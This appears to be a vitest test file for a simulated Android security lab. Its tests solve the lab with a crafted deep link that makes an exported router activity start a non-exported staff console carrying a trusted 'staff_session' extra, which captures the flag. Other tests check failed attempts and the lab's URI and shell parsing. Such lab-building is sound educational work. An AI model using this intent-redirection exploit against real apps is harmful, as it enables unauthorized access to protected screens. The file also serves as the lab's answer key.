import { afterEach, describe, expect, it } from 'vitest';
import { showsFlag, startTestLab } from '../host/test-harness';
import {
  filterMatches,
  getQueryParameter,
  newIntent,
  parseAmStart,
  parseShellLine,
  parseUri,
  simpleGlobMatch,
} from './mobile-android';

type TestLab = Awaited<ReturnType<typeof startTestLab>>;

const EXPLOIT_URI = 'tazatokri://open/go?next=internal.StaffConsoleActivity&staff_session=verified';

/** The page's text: tags dropped and entities decoded, as the learner reads it. */
function readable(body: string): string {
  return body
    .replace(/<[^>]+>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&');
}

async function run(lab: TestLab, command: string) {
  const answer = await lab.post('/adb', { command });
  expect(answer.status).toBe(200);
  return { body: answer.body, text: readable(answer.body) };
}

describe('lab mobile-exported-deeplink', () => {
  let lab: TestLab;
  afterEach(() => lab.close());

  it('is solved by a deep link whose router starts the non-exported console with the extra it trusts', async () => {
    lab = await startTestLab('mobile-exported-deeplink');
    // Recon: the manifest and the router's code, as the learner reads them.
    const manifest = readable((await lab.get('/apk/file?path=resources%2FAndroidManifest.xml')).body);
    expect(manifest).toContain(
      'android:name="in.tazatokri.app.internal.StaffConsoleActivity" android:exported="false"',
    );
    expect(manifest).toMatch(
      /LinkRouterActivity" android:exported="true"[\s\S]*?android:scheme="tazatokri" android:host="open"/,
    );
    const search = readable((await lab.get('/apk/search?q=staff_session')).body);
    expect(search).toContain('internal/StaffLoginActivity.java');
    const router = await lab.get(
      '/apk/file?path=sources%2Fin%2Ftazatokri%2Fapp%2Fdeeplink%2FLinkRouterActivity.java&raw=1',
    );
    expect(router.body).toContain('intent.setClassName(this, getPackageName() + "." + next);');

    const { body, text } = await run(lab, `am start -a android.intent.action.VIEW -d '${EXPLOIT_URI}'`);
    expect(text).toContain('On the device: Dark-store console');
    expect(text).toMatch(
      /START u0 \{cmp=in\.tazatokri\.app\/\.internal\.StaffConsoleActivity \(has extras\)\} from uid 10187/,
    );
    expect(showsFlag(body, lab.flag)).toBe(true);
  });

  it('is solved through adb from the computer, with the quotes the device needs, and through the App Link', async () => {
    lab = await startTestLab('mobile-exported-deeplink');
    const viaAdb = await run(lab, `adb shell "am start -W -a android.intent.action.VIEW -d '${EXPLOIT_URI}'"`);
    expect(viaAdb.text).toContain('Activity: in.tazatokri.app/.deeplink.LinkRouterActivity');
    expect(showsFlag(viaAdb.body, lab.flag)).toBe(true);

    await lab.close();
    lab = await startTestLab('mobile-exported-deeplink');
    const appLink = await run(
      lab,
      `adb shell am start -d "https://tazatokri.in/app/go?next=internal.StaffConsoleActivity\\&staff_session=verified"`,
    );
    expect(appLink.text).toContain('Dark-store console');
    expect(showsFlag(appLink.body, lab.flag)).toBe(true);
  });

  it('refuses the console to the shell user, and shows no flag for near misses', async () => {
    lab = await startTestLab('mobile-exported-deeplink');
    const direct = await run(
      lab,
      'adb shell am start -n in.tazatokri.app/.internal.StaffConsoleActivity --es staff_session verified',
    );
    expect(direct.text).toContain(
      'java.lang.SecurityException: Permission Denial: starting Intent { flg=0x10000000 cmp=in.tazatokri.app/.internal.StaffConsoleActivity (has extras) } from null (pid=5120, uid=2000) not exported from uid 10187',
    );
    expect(direct.text).toContain('On the device: Home screen');

    // Root is not available to get around the export check.
    expect((await run(lab, 'adb root')).text).toContain('adbd cannot run as root in production builds');
    expect((await run(lab, 'su -c am start -n in.tazatokri.app/.internal.StaffConsoleActivity')).text).toContain(
      '/system/bin/sh: su: inaccessible or not found',
    );

    // Through the router but without the extra: the console sends you to the staff sign-in.
    const noExtra = await run(
      lab,
      'am start -a android.intent.action.VIEW -d tazatokri://open/go?next=internal.StaffConsoleActivity',
    );
    expect(noExtra.text).toContain('Toast: “Staff sign-in required”');
    expect(noExtra.text).toContain('On the device: Store staff sign-in');

    // Quoted only for the computer's shell: adb joins the words and the device's shell splits at &.
    const split = await run(lab, `adb shell am start -a android.intent.action.VIEW -d "${EXPLOIT_URI}"`);
    expect(split.text).toContain('dat=tazatokri://open/go?next=internal.StaffConsoleActivity }');
    expect(split.text).toContain('staff_session=verified ran as a separate command');
    expect(split.text).toContain('On the device: Store staff sign-in');

    // The extra as a boolean: getStringExtra returns null, with the Bundle's warning.
    const asBoolean = await run(
      lab,
      'am start -n in.tazatokri.app/.deeplink.LinkRouterActivity -d "tazatokri://open/go?next=internal.StaffConsoleActivity" --ez staff_session true',
    );
    expect(asBoolean.text).toContain('Store staff sign-in');

    // The class name given in full is appended to the package: the app crashes.
    const fullName = await run(
      lab,
      "am start -d 'tazatokri://open/go?next=in.tazatokri.app.internal.StaffConsoleActivity&staff_session=verified'",
    );
    expect(fullName.text).toContain(
      'android.content.ActivityNotFoundException: Unable to find explicit activity class',
    );
    expect(fullName.text).toContain('TazaTokri keeps stopping');

    // Links the app does not claim: another host goes to the browser, another scheme nowhere.
    const otherHost = await run(lab, "am start -a android.intent.action.VIEW -d 'https://example.com/app/go?next=x'");
    expect(otherHost.text).toContain('On the device: Browser');
    const otherScheme = await run(lab, "am start -a android.intent.action.VIEW -d 'tazatokri://admin/go?next=x'");
    expect(otherScheme.text).toContain('Error: Activity not started, unable to resolve Intent');

    // A signature permission protects the exported payment callback.
    const upi = await run(lab, 'am start -a in.tazatokri.app.action.UPI_RESULT --es status SUCCESS');
    expect(upi.text).toContain('requires in.tazatokri.app.permission.PAYMENT_CALLBACK');

    for (const page of [direct, noExtra, split, asBoolean, fullName, otherHost, otherScheme, upi]) {
      expect(page.body).not.toContain(lab.flag);
      expect(showsFlag(page.body, lab.flag)).toBe(false);
    }
  });
});

describe('the Android model behind the lab', () => {
  it('parses URIs and query parameters as android.net.Uri does', () => {
    const uri = parseUri('tazatokri://open/go?next=a.B&x=%41+b&x=2#frag');
    expect(uri).toMatchObject({ scheme: 'tazatokri', host: 'open', path: '/go', query: 'next=a.B&x=%41+b&x=2' });
    expect(getQueryParameter(uri, 'x')).toBe('A b');
    expect(parseUri('https://user@tazatokri.in:8443/app').port).toBe(8443);
    expect(parseUri('mailto:help@tazatokri.in').hierarchical).toBe(false);
  });

  it('matches intent filters on action, categories and pooled data', () => {
    const filter = {
      actions: ['android.intent.action.VIEW'],
      categories: ['android.intent.category.DEFAULT', 'android.intent.category.BROWSABLE'],
      data: [{ scheme: 'https' }, { host: '*.tazatokri.in' }, { pathPattern: '/app/.*' }],
    };
    const view = (data: string, extra: Partial<Parameters<typeof newIntent>[0]> = {}) =>
      newIntent({ action: 'android.intent.action.VIEW', data, ...extra });
    expect(filterMatches(filter, view('https://m.tazatokri.in/app/go'))).toBe(true);
    expect(filterMatches(filter, view('http://m.tazatokri.in/app/go'))).toBe(false);
    expect(filterMatches(filter, view('https://tazatokri.in.evil.example/app/go'))).toBe(false);
    expect(filterMatches(filter, view('https://m.tazatokri.in/offers'))).toBe(false);
    expect(filterMatches(filter, view('https://m.tazatokri.in/app/go', { categories: ['x.OTHER'] }))).toBe(false);
    expect(
      filterMatches(filter, newIntent({ action: 'android.intent.action.MAIN', data: 'https://m.tazatokri.in/app/' })),
    ).toBe(false);
    expect(filterMatches({ actions: ['a.B'] }, newIntent({ action: 'a.B', data: 'x://y' }))).toBe(false);
    expect(simpleGlobMatch('/a.*b\\.c', '/axxb.c')).toBe(true);
    expect(simpleGlobMatch('/a.*b\\.c', '/axxbxc')).toBe(false);
  });

  it('reads command lines as a shell does, and am start options as am does', () => {
    expect(parseShellLine(`am start -d "a?b=1&c=2" ; echo 'x y'\\ z`)).toEqual([
      { words: ['am', 'start', '-d', 'a?b=1&c=2'], then: ';' },
      { words: ['echo', 'x y z'], then: null },
    ]);
    expect(parseShellLine('am start -d a?b=1&c=2').map((c) => c.words)).toEqual([
      ['am', 'start', '-d', 'a?b=1'],
      ['c=2'],
    ]);
    expect(parseShellLine('echo $HOME"$X"${Y}z')).toEqual([{ words: ['echo', 'z'], then: null }]);
    expect(() => parseShellLine("echo 'open")).toThrow('unterminated');
    const { intent, wait } = parseAmStart([
      '-W',
      '-n',
      'p.q/.R',
      '--es',
      'k',
      'v',
      '--ez',
      'b',
      'true',
      '--ei',
      'n',
      '5',
    ]);
    expect(wait).toBe(true);
    expect(intent.component).toEqual({ pkg: 'p.q', cls: 'p.q.R' });
    expect([...intent.extras]).toEqual([
      ['k', { type: 'String', value: 'v' }],
      ['b', { type: 'Boolean', value: true }],
      ['n', { type: 'Integer', value: 5 }],
    ]);
    expect(parseAmStart(['tazatokri://open']).intent).toMatchObject({
      action: 'android.intent.action.VIEW',
      data: 'tazatokri://open',
    });
    expect(() => parseAmStart(['--bogus'])).toThrow('Unknown option: --bogus');
  });
});
